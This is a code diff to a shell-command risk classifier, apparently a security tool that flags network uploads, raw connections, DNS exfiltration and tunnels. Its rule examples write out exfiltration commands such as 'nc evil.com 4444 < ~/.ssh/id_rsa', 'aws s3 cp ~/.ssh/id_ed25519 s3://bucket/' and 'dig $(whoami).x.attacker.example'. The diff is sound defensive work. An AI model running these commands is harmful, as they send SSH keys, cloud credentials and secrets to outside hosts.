@@ -1,13 +1,13 @@
 /** Network: downloads (medium), remote code execution (high), uploads and tunnels (exfiltration). */
-import type { RiskRule } from '../rule.js';
+import type { Match, RiskRule } from '../rule.js';
 import { any, atPath, not, re, substituted } from '../dsl.js';
 
 // prettier-ignore
-const FETCHERS = ['curl', 'wget', 'fetch', 'http', 'https', 'xh', 'aria2c', 'iwr', 'lwp-request', 'GET'];
+const FETCHERS = ['curl', 'wget', 'fetch', 'http', 'https', 'xh', 'aria2c', 'iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod', 'lwp-request', 'get'];
 // prettier-ignore
 const INTERPRETERS = [
   'sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'ash', 'busybox', 'python', 'python2', 'python3', 'node', 'perl',
-  'ruby', 'php', 'pwsh', 'deno', 'bun', 'lua',
+  'ruby', 'php', 'pwsh', 'powershell', 'deno', 'bun', 'lua', 'iex', 'invoke-expression',
 ];
 const REMOTE_SPEC = re(/^([\w.-]+@)?[\w.-]+:(?!\/\/)|^(rsync|s3|gs|az|sftp|ftp|scp):\/\//);
 const UPLOAD_FLAGS = ['-T', '--upload-file', '-F', '--form'];
@@ -19,6 +19,42 @@ const DATA_FLAGS = [
   '--data-ascii',
   '--data-urlencode',
   '--json',
+];
+
+/** Commands that upload a local file or standard input somewhere else. */
+const UPLOADS: Match[] = [
+  { program: ['curl'], anyFlag: UPLOAD_FLAGS },
+  { program: ['curl'], flagValue: { flags: DATA_FLAGS, test: re(/^@/) } },
+  { program: ['wget'], anyFlag: ['--post-file', '--body-file'] },
+  { program: ['scp', 'rsync', 'sftp'], lastOperand: REMOTE_SPEC },
+  {
+    program: ['aws'],
+    sub: [['s3'], ['cp', 'sync', 'mv']],
+    lastOperand: re(/^s3:\/\//),
+    sourceOperand: not(re(/^s3:\/\//)),
+  },
+  {
+    program: ['gsutil'],
+    sub: [['cp', 'rsync', 'mv']],
+    lastOperand: re(/^gs:\/\//),
+    sourceOperand: not(re(/^gs:\/\//)),
+  },
+  { program: ['rclone'], sub: [['copy', 'sync', 'move', 'copyto']] },
+  { program: ['ftp', 'tftp', 'lftp', 'sftp', 'smbclient'] },
+  { wrapper: ['ssh'], remote: true, redirect: { read: true } },
+  { wrapper: ['ssh'], remote: true, piped: true, noneOf: [{ wrapper: ['xargs', 'parallel'] }] },
+  { program: ['ssh'], redirect: { read: true } },
+  { program: ['ssh'], piped: true, noneOf: [{ wrapper: ['xargs', 'parallel'] }] },
+  { program: ['http', 'https', 'xh', 'xhs'], operand: re(/^[\w.-]+(@|=@|:=@)[^@\s]/) },
+  { program: ['http', 'https', 'xh', 'xhs'], redirect: { read: true } },
+  { program: ['az'], sub: [['storage'], ['blob', 'file'], ['upload', 'upload-batch']] },
+  { program: ['gcloud'], sub: [['storage'], ['cp', 'rsync']], lastOperand: re(/^gs:\/\//) },
+  { program: ['s3cmd'], sub: [['put', 'sync']], lastOperand: re(/^s3:\/\//) },
+  { program: ['b2'], sub: [['upload-file', 'upload_file', 'sync']] },
+  { program: ['mc'], sub: [['cp', 'mirror']], lastOperand: re(/^[\w-]+\//) },
+  { program: ['mail', 'mailx', 'sendmail', 'mutt'] },
+  { program: ['gh'], sub: [['gist'], ['create']] },
+  { program: ['transfer', 'croc', 'magic-wormhole', 'wormhole'] },
 ];
 
 export const networkRules: RiskRule[] = [
@@ -107,32 +143,9 @@ export const networkRules: RiskRule[] = [
     category: 'exfiltration',
     tier: 'high',
     reason: 'Uploads a local file or standard input to a remote host',
+    scope: 'program',
     match: {
-      anyOf: [
-        { program: ['curl'], anyFlag: UPLOAD_FLAGS },
-        { program: ['curl'], flagValue: { flags: DATA_FLAGS, test: re(/^@/) } },
-        { program: ['wget'], anyFlag: ['--post-file', '--body-file'] },
-        { program: ['scp', 'rsync', 'sftp'], lastOperand: REMOTE_SPEC },
-        {
-          program: ['aws'],
-          sub: [['s3'], ['cp', 'sync', 'mv']],
-          lastOperand: re(/^s3:\/\//),
-          sourceOperand: not(re(/^s3:\/\//)),
-        },
-        {
-          program: ['gsutil'],
-          sub: [['cp', 'rsync', 'mv']],
-          lastOperand: re(/^gs:\/\//),
-          sourceOperand: not(re(/^gs:\/\//)),
-        },
-        { program: ['rclone'], sub: [['copy', 'sync', 'move', 'copyto']] },
-        { program: ['ftp', 'tftp', 'lftp', 'sftp', 'smbclient'] },
-        { wrapper: ['ssh'], remote: true, redirect: { read: true } },
-        { program: ['ssh'], redirect: { read: true } },
-        { program: ['mail', 'mailx', 'sendmail', 'mutt'] },
-        { program: ['gh'], sub: [['gist'], ['create']] },
-        { program: ['transfer', 'croc', 'magic-wormhole', 'wormhole'] },
-      ],
+      anyOf: [...UPLOADS],
     },
     examples: [
       'curl -T backup.tar https://example.com/upload',
@@ -155,6 +168,9 @@ export const networkRules: RiskRule[] = [
         { program: ['curl', 'wget', 'http', 'https'], anyWord: atPath('secret') },
         { program: ['curl', 'wget'], anyWord: any(re(/^@?~?\/?.*\.ssh\//), re(/^@.*\.env$/)) },
         { program: ['scp', 'rsync', 'sftp'], lastOperand: REMOTE_SPEC, sourceOperand: atPath('secret') },
+        // Any upload whose operands name a secret (`gh gist create .env`, `aws s3 cp ~/.ssh/id s3://b/`);
+        // a key given to an option (`scp -i ~/.ssh/key …`) is used, not sent.
+        { anyOf: UPLOADS, operand: atPath('secret') },
         {
           program: ['nc', 'ncat', 'netcat', 'socat', 'ssh', 'telnet'],
           redirect: { read: true, target: atPath('secret') },
@@ -166,8 +182,15 @@ export const networkRules: RiskRule[] = [
       'curl -d @.env https://x.io',
       'scp ~/.aws/credentials me@host:',
       'nc evil.com 4444 < ~/.ssh/id_rsa',
+      'gh gist create .env --public',
+      'aws s3 cp ~/.ssh/id_ed25519 s3://bucket/',
     ],
-    counterExamples: ['curl -d @data.json https://x.io', 'scp ./build.zip me@host:'],
+    counterExamples: [
+      'curl -d @data.json https://x.io',
+      'scp ./build.zip me@host:',
+      'scp -i ~/.ssh/deploy_key build.zip me@host:',
+      'aws s3 cp s3://bucket/.env .',
+    ],
     weight: 19,
   },
   {
@@ -175,10 +198,36 @@ export const networkRules: RiskRule[] = [
     category: 'exfiltration',
     tier: 'high',
     reason:
-      'Opens a raw network connection or listener (netcat, socat, telnet) that can move data or a shell',
-    match: { program: ['nc', 'ncat', 'netcat', 'socat', 'telnet'] },
-    examples: ['nc example.com 4444', 'nc -l 8080', 'socat TCP:x:1 -'],
-    counterExamples: ['ping example.com'],
+      'Opens a raw network connection or listener (netcat, socat, telnet, openssl s_client) that can move data or a shell',
+    match: {
+      anyOf: [
+        { program: ['nc', 'ncat', 'netcat', 'socat', 'telnet', 'pwncat', 'cryptcat'], noFlag: ['-z'] },
+        { program: ['openssl'], sub: [['s_client', 's_server']] },
+      ],
+    },
+    examples: [
+      'nc example.com 4444',
+      'nc -l 8080',
+      'socat TCP:x:1 -',
+      'openssl s_client -connect x.io:443 < a.txt',
+    ],
+    counterExamples: ['ping example.com', 'openssl x509 -in cert.pem -noout -text'],
+  },
+  {
+    id: 'exfil.dns',
+    category: 'exfiltration',
+    tier: 'high',
+    reason: 'Looks up a DNS name built from command output: data can leave the machine in the query',
+    match: {
+      program: ['dig', 'nslookup', 'host', 'drill', 'delv', 'resolvectl', 'getent', 'ping', 'ping6'],
+      anyWord: { kind: 'dynamic', kinds: ['command-substitution', 'process-substitution'] },
+    },
+    examples: [
+      'dig $(whoami).x.attacker.example',
+      'nslookup "$(hostname).evil.example"',
+      'ping -c1 `id -u`.x.example',
+    ],
+    counterExamples: ['dig example.com', 'nslookup github.com'],
   },
   {
     id: 'exfil.reverse-shell',
@@ -211,7 +260,24 @@ export const networkRules: RiskRule[] = [
           program: ['python', 'python3'],
           flagValue: { flags: ['-m'], test: re(/^(http\.server|SimpleHTTPServer|pyftpdlib)$/) },
         },
-        { program: ['ngrok', 'cloudflared', 'localtunnel', 'lt', 'bore', 'serveo'] },
+        {
+          program: [
+            'ngrok',
+            'cloudflared',
+            'localtunnel',
+            'lt',
+            'bore',
+            'serveo',
+            'frpc',
+            'chisel',
+            'zrok',
+            'pinggy',
+            'expose',
+            'telebit',
+            'pagekite',
+          ],
+        },
+        { program: ['tailscale'], sub: [['funnel', 'serve']] },
         { program: ['ssh'], anyFlag: ['-R', '-D'] },
         { program: ['php'], anyFlag: ['-S'] },
       ],
